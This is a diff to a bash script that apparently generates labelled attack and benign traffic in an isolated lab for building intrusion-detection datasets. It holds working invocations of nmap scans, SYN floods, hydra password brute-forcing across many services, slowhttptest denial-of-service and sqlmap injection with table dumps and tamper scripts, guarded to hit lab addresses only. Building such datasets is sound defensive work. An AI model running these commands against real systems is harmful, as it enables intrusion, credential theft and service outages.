@@ -11,7 +11,16 @@ SSH_OPTS=(-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/nu
 WEB_NAMES=(www files api cdn docs)
 DNS_NAMES=(www files api shell cdn docs git mail)
 
-cl() { nsx "$NS_CLIENT" "$@"; }
+# A benign user's tool call (`cl timeout N cmd...`): past the user's deadline (USER_DEADLINE, set by benign_user
+# in benign runs) no call runs more than a few seconds longer, so a run ends close to its planned length.
+cl() {
+  if [[ $1 == timeout && -n ${USER_DEADLINE:-} ]]; then
+    local left=$((USER_DEADLINE - EPOCHSECONDS + 4))
+    ((left < 3)) && left=3
+    (($2 > left)) && set -- timeout "$left" "${@:3}"
+  fi
+  nsx "$NS_CLIENT" "$@"
+}
 at() { nsx "$NS_ATTACKER" "$@"; }
 
 rsleep() { # rsleep MIN_MS MAX_MS
@@ -26,169 +35,8 @@ guard_target() { # refuse anything that is not one of our own server addresses
   die "refusing to attack $t: not a lab server address"
 }
 
-# ---------------------------------------------------------------- benign traffic (client ns)
-
-web_action() {
-  local src name proto port host url k=() n i page sz obj
-  pick src "${C_ADDRS[@]}"
-  pick name "${WEB_NAMES[@]}"
-  if chance 50; then
-    proto=https
-    pick port "${HTTPS_PORTS[@]}"
-    k=(-k)
-  else
-    proto=http
-    pick port "${HTTP_PORTS[@]}"
-  fi
-  # by name (a DNS lookup first, like a browser) or by address
-  if chance 70; then host="$name.$LAB_DOMAIN"; else pick host "${SERVER_ADDRS[@]}"; fi
-  url="$proto://$host:$port"
-  rand page 1 20
-  pick sz 1 4 16 64 256 1024 4096
-  case $((RANDOM % 8)) in
-  0 | 1) # one page
-    cl timeout 10 curl -s "${k[@]}" --interface "$src" -o /dev/null "$url/docs/page$page.html" ;;
-  2) # a page and its objects over one keep-alive connection
-    local args=()
-    rand n 2 8
-    for ((i = 0; i < n; i++)); do
-      if ((i % 2)); then obj="style$((RANDOM % 12 + 1)).css"; else obj="img$((RANDOM % 12 + 1)).png"; fi
-      args+=(-o /dev/null "$url/static/$obj")
-    done
-    cl timeout 15 curl -s "${k[@]}" --interface "$src" -o /dev/null "$url/docs/page$page.html" "${args[@]}" ;;
-  3) # download, sometimes rate-limited like a slow link
-    local lim=()
-    chance 40 && lim=(--limit-rate="$((RANDOM % 900 + 100))k")
-    cl timeout 12 wget -q "${lim[@]}" --no-check-certificate --bind-address="$src" -O /dev/null "$url/files/blob-${sz}k.bin" ;;
-  4) # browse a page with its requisites
-    local tmp
-    tmp=$(mktemp -d "$RUN_DIR/tmp.XXXX")
-    cl timeout 12 wget -q -p -np -l 1 --no-check-certificate --bind-address="$src" -P "$tmp" "$url/docs/page$page.html" || true
-    rm -rf "$tmp" ;;
-  5) # an API client
-    if chance 50; then
-      cl timeout 8 curl -s "${k[@]}" --interface "$src" -o /dev/null -H 'Accept: application/json' "$url/api.json"
-    else
-      cl timeout 8 curl -s "${k[@]}" --interface "$src" -o /dev/null -X POST -H 'Content-Type: application/json' \
-        -d "{\"id\":$RANDOM,\"q\":\"$page\"}" "$url/api.json"
-    fi ;;
-  6) # a legitimate user of the login page and the item/search pages the attacks target
-    if chance 50; then
-      cl timeout 8 curl -s "${k[@]}" --interface "$src" -o /dev/null -c /dev/null \
-        -d "username=$LAB_USER&password=$LAB_PASS" "$url/app/login"
-    else
-      cl timeout 8 curl -s "${k[@]}" --interface "$src" -o /dev/null "$url/app/item?id=$((RANDOM % 10 + 1))" \
-        -o /dev/null "$url/app/search?q=$(pick_word)"
-    fi ;;
-  7) # index page then a file, two separate connections
-    cl timeout 8 curl -s "${k[@]}" --interface "$src" -o /dev/null "$url/"
-    cl timeout 10 curl -s "${k[@]}" --interface "$src" -o /dev/null "$url/files/blob-${sz}k.bin" ;;
-  esac
-}
-
-pick_word() {
-  local w=(lamp desk chair cable router switch laptop phone mug pen)
-  echo "${w[RANDOM % ${#w[@]}]}"
-}
-
-dns_action() {
-  local src name type tool n i
-  pick src "${C_ADDRS[@]}"
-  rand n 1 4
-  for ((i = 0; i < n; i++)); do
-    case $((RANDOM % 10)) in
-    0 | 1 | 2 | 3 | 4) pick name "${DNS_NAMES[@]}"; name="$name.$LAB_DOMAIN" ;;
-    5 | 6) name="$LAB_DOMAIN" ;;
-    7) name="_ssh._tcp.$LAB_DOMAIN" ;;
-    8) name="host$RANDOM.$LAB_DOMAIN" ;; # NXDOMAIN, as typos and stale names do
-    9) pick name example.com debian.org updates.internal ;; # answered REFUSED: no upstream
-    esac
-    pick type A A A AAAA MX TXT SRV ANY
-    pick tool dig dig host nslookup
-    case $tool in
-    dig) cl timeout 4 dig +time=1 +tries=1 -b "$src" "@$DNS_ADDR" "$name" "$type" >/dev/null || true ;;
-    host) cl timeout 4 host -W 1 -t "$type" "$name" "$DNS_ADDR" >/dev/null || true ;;
-    nslookup) cl timeout 4 nslookup -timeout=1 -type="$type" "$name" "$DNS_ADDR" >/dev/null || true ;;
-    esac
-    rsleep 10 400
-  done
-}
-
-ssh_action() {
-  local src port target cmds i n f
-  pick src "${C_ADDRS[@]}"
-  pick port "${SSH_PORTS[@]}"
-  pick target "${SERVER_ADDRS[@]}" "shell.$LAB_DOMAIN"
-  local key=(-i "$ASSETS/client_key" -o BatchMode=yes)
-  case $((RANDOM % 6)) in
-  0 | 1) # an interactive shell: lines typed with pauses between them
-    rand n 3 8
-    cmds=(ls "uptime" "df -h" "ps aux | head" "cat notes.txt | head -20" "uname -a" "id" "free -m" "w" "ls -la /tmp")
-    {
-      for ((i = 0; i < n; i++)); do
-        echo "${cmds[RANDOM % ${#cmds[@]}]}"
-        rsleep 200 1500
-      done
-      echo exit
-    } | cl timeout 20 ssh -tt "${SSH_OPTS[@]}" "${key[@]}" -b "$src" -p "$port" "$LAB_USER@$target" >/dev/null 2>&1 || true ;;
-  2) # a remote command
-    cl timeout 10 ssh "${SSH_OPTS[@]}" "${key[@]}" -b "$src" -p "$port" "$LAB_USER@$target" \
-      "uptime; sleep 0.$((RANDOM % 9 + 1)); ls -l" >/dev/null 2>&1 || true ;;
-  3) # password login, as people without keys do
-    cl timeout 10 sshpass -p "$LAB_PASS" ssh "${SSH_OPTS[@]}" -o PubkeyAuthentication=no -b "$src" -p "$port" \
-      "$LAB_USER@$target" "hostname; date" >/dev/null 2>&1 || true ;;
-  4) # scp upload
-    f=$(mktemp "$RUN_DIR/tmp.XXXX")
-    head -c $((RANDOM * (RANDOM % 40 + 1))) /dev/urandom >"$f"
-    cl timeout 15 scp -q "${SSH_OPTS[@]}" "${key[@]}" -o BindAddress="$src" -P "$port" "$f" "$LAB_USER@$target:/tmp/up.$RANDOM" >/dev/null 2>&1 || true
-    rm -f "$f" ;;
-  5) # scp download
-    pick f notes.txt backup.tar
-    cl timeout 15 scp -q "${SSH_OPTS[@]}" "${key[@]}" -o BindAddress="$src" -P "$port" "$LAB_USER@$target:$f" /dev/null >/dev/null 2>&1 || true ;;
-  esac
-}
-
-# One simulated user: random actions with think time until the deadline.
-benign_user() { # benign_user SEED SECS MIN_THINK_MS MAX_THINK_MS
-  RANDOM=$1
-  local end=$((EPOCHSECONDS + $2)) r
-  while ((EPOCHSECONDS < end)); do
-    r=$((RANDOM % 100))
-    if ((r < 55)); then
-      web_action || true
-    elif ((r < 80)); then
-      dns_action || true
-    else
-      ssh_action || true
-    fi
-    rsleep "$3" "$4"
-  done
-}
-
-# Several users in parallel, each with its own seed so they do not repeat each other.
-benign_traffic() { # benign_traffic USERS SECS MIN_THINK_MS MAX_THINK_MS
-  local i pids=()
-  for ((i = 0; i < $1; i++)); do
-    benign_user "$((SEED * 131 + i * 17 + 1))" "$2" "$3" "$4" &
-    pids+=($!)
-  done
-  wait "${pids[@]}" || true
-}
-
-# Attack runs carry light benign traffic alongside, so a capture is never "all one class".
-with_background() { # with_background CMD...
-  benign_traffic 2 "$RUN_SECS" 200 2000 &
-  local bg=$!
-  "$@"
-  wait "$bg" || true
-}
-
-scenario_benign() {
-  local users
-  rand users 3 5
-  RUN_NOTES+=("users=$users")
-  benign_traffic "$users" "$RUN_SECS" 20 700
-}
+# shellcheck source-path=SCRIPTDIR source=benign.sh
+source "$LAB_DIR/benign.sh"
 
 # ---------------------------------------------------------------- attacks (attacker ns)
 
@@ -208,46 +56,80 @@ port_list() { # port_list VAR COUNT
   )
 }
 
-run_nmap() { # run_nmap KIND
-  local kind=$1 rate ports="" n tmpl targets=() extra=()
+# UDP ports a scan of "the usual services" tries: the server answers on 53 (dnsmasq) and 123 (NTP), the others
+# are closed and answer with ICMP port unreachable (rate-limited by the server's kernel, as on any Linux host).
+UDP_SCAN_PORTS=(53 67 69 123 137 161 162 500 514 520 1194 1900 4500 5353 11211)
+
+run_nmap() { # run_nmap KIND SECS
+  local kind=$1 secs=$2 rate ports="" n tmpl targets=() extra=() small=0
   rand rate 200 1500
-  pick tmpl -T3 -T4 -T4 -T5
+  pick tmpl -T2 -T3 -T3 -T4 -T4 -T4 -T5 -T5
+  # a polite timing (-T2 waits 0.4 s between probes) or an explicit --scan-delay only fits a short list
+  if [[ $tmpl == -T2 ]] || chance 15; then small=1; fi
   targets=("${T_ADDRS[@]}")
-  case $((RANDOM % 4)) in
-  0) ports="1-1024" ;;
-  1) rand n 100 1000; extra+=(--top-ports "$n") ;;
-  2) rand n 1500 6000; ports="1-$n" ;;
-  3) rand n 30 400; port_list ports "$n" ;;
-  esac
+  if ((small)); then
+    rand n 10 40
+    port_list ports "$n"
+    [[ $tmpl != -T2 ]] && extra+=(--scan-delay "$((RANDOM % 300 + 20))ms")
+  else
+    case $((RANDOM % 4)) in
+    0) ports="1-1024" ;;
+    1) rand n 100 1000; extra+=(--top-ports "$n") ;;
+    2) rand n 1500 6000; ports="1-$n" ;;
+    3) rand n 30 400; port_list ports "$n" ;;
+    esac
+  fi
   chance 50 && extra+=(-Pn)
   case $kind in
-  syn) extra+=(-sS --ttl "$A_TTL") ; chance 20 && extra+=(-g 53) ;;
+  syn)
+    extra+=(-sS --ttl "$A_TTL")
+    chance 20 && extra+=(-g 53)
+    chance 15 && extra+=(-O --max-os-tries 1) ;;
   connect) extra+=(-sT) ;;
+  stealth) # FIN, Xmas or NULL probes: Linux answers RST on closed ports and nothing on open ones
+    local flavour
+    pick flavour -sF -sX -sN
+    extra+=("$flavour" --ttl "$A_TTL") ;;
+  ack) extra+=(-sA --ttl "$A_TTL") ;;
+  udp) # a few UDP ports, sometimes with a TCP SYN scan of a short list alongside
+    local u
+    pick_n u "$((RANDOM % 8 + 4))" "${UDP_SCAN_PORTS[@]}"
+    ports="U:$(IFS=,; echo "${u[*]}")"
+    extra=(-sU -Pn --ttl "$A_TTL")
+    if chance 40; then
+      local tcp
+      port_list tcp "$((RANDOM % 20 + 5))"
+      extra+=(-sS)
+      ports+=",T:$tcp"
+    fi
+    chance 40 && extra+=(-sV --version-intensity 2) ;;
   version)
     # version probing is slow per open port; closed ones cost one RST, so the list can be longer
     rand n 30 150
     port_list ports "$n"
-    extra=(-sV --version-intensity "$((RANDOM % 6 +2))" -Pn)
-    chance 50 && extra+=(-sT)
-    ;;
+    extra=(-sV --version-intensity "$((RANDOM % 6 + 2))" -Pn)
+    chance 50 && extra+=(-sT) ;;
   esac
   [[ -n $ports ]] && extra+=(-p "$ports")
   local t
   for t in "${targets[@]}"; do guard_target "$t"; done
-  RUN_TOOLS+=("nmap $tmpl -n --max-rate $rate --max-retries 2 ${extra[*]} ${targets[*]}")
-  at timeout 40 nmap "$tmpl" -n --max-rate "$rate" --max-retries 2 --host-timeout 35s -e eth0 \
+  RUN_TOOLS+=("nmap $tmpl -n --max-rate $rate --max-retries 2 --host-timeout $((secs - 5))s ${extra[*]} ${targets[*]}")
+  at timeout "$secs" nmap "$tmpl" -n --max-rate "$rate" --max-retries 2 --host-timeout "$((secs - 5))s" -e eth0 \
     "${extra[@]}" "${targets[@]}" >>"$RUN_DIR/tool.log" 2>&1 || true
 }
 
 scenario_portscan() {
-  local kinds=(syn connect version) first second
+  local kinds=(syn syn connect connect version stealth udp ack) first second
   pick first "${kinds[@]}"
-  run_nmap "$first"
+  # a second scan of another kind from a second address in some runs; the two share the time of one
   if chance 40; then
+    run_nmap "$first" 22
     pick second "${kinds[@]}"
     rsleep 200 2000
     set_src_addr "$NS_ATTACKER" "${A_ADDRS[-1]}"
-    run_nmap "$second"
+    run_nmap "$second" 16
+  else
+    run_nmap "$first" 35
   fi
 }
 
@@ -276,7 +158,13 @@ scenario_synflood() {
   fi
   for i in "${!A_ADDRS[@]}"; do
     src=${A_ADDRS[i]}
-    if chance 70; then port=$T_HTTP; else pick port "$T_SSH" "$T_HTTPS"; fi
+    if chance 55; then
+      port=$T_HTTP
+    elif chance 60; then
+      pick port "$T_SSH" "$T_HTTPS"
+    else
+      pick port "$T_FTP" "${SMTP_PORTS[0]}" "$MYSQL_PORT" "$PG_PORT" "${REDIS_PORTS[0]}" "${MQTT_PORTS[0]}" "$IMAP_PORT"
+    fi
     rand count 1000 3000
     rand gap 150 1500
     extra=()
@@ -314,27 +202,41 @@ make_wordlists() {
   printf '%s\n' "${sel[@]}" >"$RUN_DIR/passwords.txt"
 }
 
-run_hydra() { # run_hydra ssh|http|https
-  local svc=$1 tasks cmd=() target=${T_ADDRS[0]}
+# hydra against one service of the first target: SSH, FTP, HTTP basic auth (/admin/), the login form over HTTP
+# or HTTPS, IMAP, POP3, PostgreSQL or the password of the Redis on port 6380.
+run_hydra() { # run_hydra SERVICE
+  local svc=$1 tasks cmd=() target=${T_ADDRS[0]} form="/app/login:username=^USER^&password=^PASS^:F=Invalid"
   guard_target "$target"
-  rand tasks 2 6
+  # the login protocols try several passwords per connection, so more tasks (connections) in parallel
+  case $svc in
+  ssh | ftp | imap | pop3 | postgres) rand tasks 4 12 ;;
+  *) rand tasks 2 6 ;;
+  esac
   cmd=(hydra -I -L "$RUN_DIR/users.txt" -P "$RUN_DIR/passwords.txt" -t "$tasks" -w 5 -o "$RUN_DIR/hydra.out")
   chance 30 && cmd+=(-f)
+  chance 20 && cmd+=(-e nsr) # also the empty password, the login as password and its reverse
   case $svc in
   ssh) cmd+=(-s "$T_SSH" "ssh://$target") ;;
-  http) cmd+=(-s "$T_HTTP" "$target" http-post-form "/app/login:username=^USER^&password=^PASS^:F=Invalid") ;;
-  https) cmd+=(-s "$T_HTTPS" "$target" https-post-form "/app/login:username=^USER^&password=^PASS^:F=Invalid") ;;
+  ftp) cmd+=(-s "$T_FTP" "ftp://$target") ;;
+  http-basic) cmd+=(-s "$T_HTTP" "$target" http-get /admin/) ;;
+  https-basic) cmd+=(-s "$T_HTTPS" "$target" https-get /admin/) ;;
+  http) cmd+=(-s "$T_HTTP" "$target" http-post-form "$form") ;;
+  https) cmd+=(-s "$T_HTTPS" "$target" https-post-form "$form") ;;
+  imap) cmd+=(-s "$IMAP_PORT" "imap://$target") ;;
+  pop3) cmd+=(-s "$POP3_PORT" -m CLEAR "pop3://$target") ;; # USER/PASS; its default AUTH fails on dovecot
+  postgres) cmd+=(-s "$PG_PORT" "postgres://$target") ;;
+  redis) cmd=(hydra -I -P "$RUN_DIR/passwords.txt" -t "$tasks" -w 5 -o "$RUN_DIR/hydra.out" -s "${REDIS_PORTS[1]}" "redis://$target") ;;
   esac
   RUN_TOOLS+=("${cmd[*]}")
   # hydra writes a restore file into its working directory
-  (cd "$RUN_DIR" && at timeout 22 "${cmd[@]}" >>"$RUN_DIR/tool.log" 2>&1) || true
+  (cd "$RUN_DIR" && at timeout 20 "${cmd[@]}" >>"$RUN_DIR/tool.log" 2>&1) || true
   rm -f "$RUN_DIR/hydra.restore"
 }
 
 scenario_bruteforce() {
   make_wordlists
   local plan
-  pick plan ssh http https ssh+http ssh+https
+  pick plan ssh ssh ftp http http-basic https https-basic imap pop3 postgres redis ssh+http ftp+ssh http-basic+ssh
   RUN_NOTES+=("plan=$plan")
   local first=${plan%%+*} second=${plan#*+}
   run_hydra "$first"
@@ -344,44 +246,68 @@ scenario_bruteforce() {
   fi
 }
 
+# slowhttptest in one of its modes: slowloris (-H, headers that never end), slow body (-B, a POST body sent a few
+# bytes at a time), or slow read (-X, a response read through a tiny receive window).
 scenario_slowloris() {
-  local conns interval rate secs maxlen url verb target=${T_ADDRS[0]} path
+  local conns rate secs mode url target=${T_ADDRS[0]} base path args=()
   guard_target "$target"
   rand conns 100 400
-  rand interval 2 8
   rand rate 20 150
-  rand secs 14 22
-  rand maxlen 8 40
-  pick verb GET GET POST
-  pick path / /index.html /docs/page3.html /app/login /api.json
-  if chance 65; then url="http://$target:$T_HTTP$path"; else url="https://$target:$T_HTTPS$path"; fi
-  RUN_TOOLS+=("slowhttptest -H -c $conns -i $interval -r $rate -l $secs -x $maxlen -t $verb -u $url")
-  at timeout $((secs + 10)) slowhttptest -H -c "$conns" -i "$interval" -r "$rate" -l "$secs" -x "$maxlen" \
-    -p 3 -t "$verb" -u "$url" >>"$RUN_DIR/tool.log" 2>&1 || true
+  rand secs 12 20
+  if chance 65; then base="http://$target:$T_HTTP"; else base="https://$target:$T_HTTPS"; fi
+  pick mode H H B X
+  case $mode in
+  H)
+    local verb
+    pick verb GET GET POST
+    pick path / /index.html /docs/page3.html /app/login /api.json
+    args=(-H -i "$((RANDOM % 7 + 2))" -x "$((RANDOM % 33 + 8))" -t "$verb") ;;
+  B) # the body goes through nginx's proxy buffering, which waits for all of it
+    pick path /app/login /app/search?q=lamp /app/login
+    args=(-B -i "$((RANDOM % 7 + 2))" -x "$((RANDOM % 33 + 8))" -s "$((RANDOM % 12288 + 4096))" -t POST) ;;
+  X) # a large response read slowly
+    pick path /files/blob-1024k.bin /files/blob-4096k.bin /docs/page20.html /static/img12.png
+    args=(-X -w "$((RANDOM % 16 + 8))" -y "$((RANDOM % 32 + 24))" -n "$((RANDOM % 4 + 1))" -z "$((RANDOM % 64 + 16))"
+      -k "$((RANDOM % 3 + 1))") ;;
+  esac
+  url=$base$path
+  RUN_TOOLS+=("slowhttptest ${args[*]} -c $conns -r $rate -l $secs -u $url")
+  at timeout $((secs + 10)) slowhttptest "${args[@]}" -c "$conns" -r "$rate" -l "$secs" -p 3 -u "$url" \
+    >>"$RUN_DIR/tool.log" 2>&1 || true
 }
 
-run_sqlmap() {
-  local target=${T_ADDRS[0]} base level risk tech threads what extra=() url
+run_sqlmap() { # run_sqlmap SECS
+  local secs=$1 target=${T_ADDRS[0]} base level risk tech threads what extra=() url
   guard_target "$target"
   if chance 70; then base="http://$target:$T_HTTP"; else base="https://$target:$T_HTTPS"; fi
-  rand level 1 3
-  rand risk 1 2
-  pick tech BEU BEU BU BEUS E U B B BE
+  pick level 1 1 1 2 2 3 4 5
+  pick risk 1 1 2 3
+  # boolean-blind, error-based, UNION, stacked queries, time-based blind, alone and combined
+  pick tech BEU BEU BU BEUS E U B B BE T BT BEUST S ET
   rand threads 1 4
   case $((RANDOM % 3)) in
   0) url="$base/app/item?id=$((RANDOM % 10 + 1))" ;;
   1) url="$base/app/search?q=$(pick_word)" ;;
   2) url="$base/app/login"; extra+=(--data "username=$(pick_word)&password=$RANDOM") ;;
   esac
+  # a time-based test waits --time-sec per guess; a short one keeps the run bounded
+  [[ $tech == *T* ]] && extra+=(--time-sec "$((RANDOM % 2 + 1))")
   # the page gives in at once; what sqlmap is asked to fetch afterwards makes most of the traffic
   pick what --banner --dbs --tables --current-user "--dump -T users" "--dump -T items" --schema --count
-  chance 50 && extra+=(--dbms=SQLite)
+  # SQLite has no sleep(): told the DBMS, a time-based test gives up after a few requests; untold, it tries the
+  # payloads of every DBMS, as against an unknown site
+  [[ $tech != *T* ]] && chance 50 && extra+=(--dbms=SQLite)
   chance 50 && extra+=(--random-agent)
   chance 30 && extra+=(--skip-heuristics)
+  if chance 25; then
+    local tamper
+    pick tamper space2comment between randomcase charencode space2comment,randomcase
+    extra+=(--tamper "$tamper")
+  fi
   # shellcheck disable=SC2206  # "what" is one option or an option with its value
   extra+=($what)
   RUN_TOOLS+=("sqlmap -u $url --batch --level $level --risk $risk --technique $tech --threads $threads ${extra[*]}")
-  at timeout 30 sqlmap -u "$url" --batch --flush-session --disable-coloring --output-dir="$RUN_DIR/sqlmap" \
+  at timeout "$secs" sqlmap -u "$url" --batch --flush-session --disable-coloring --output-dir="$RUN_DIR/sqlmap" \
     --level "$level" --risk "$risk" --technique "$tech" --threads "$threads" --timeout 5 --retries 1 \
     "${extra[@]}" >>"$RUN_DIR/tool.log" 2>&1 || true
 }
@@ -392,7 +318,7 @@ scenario_sqli() {
   rand n 2 3
   for ((i = 0; i < n; i++)); do
     ((i > 0)) && set_src_addr "$NS_ATTACKER" "${A_ADDRS[i % ${#A_ADDRS[@]}]}"
-    run_sqlmap
+    run_sqlmap "$((n == 2 ? 20 : 14))"
     rsleep 100 1500
   done
 }
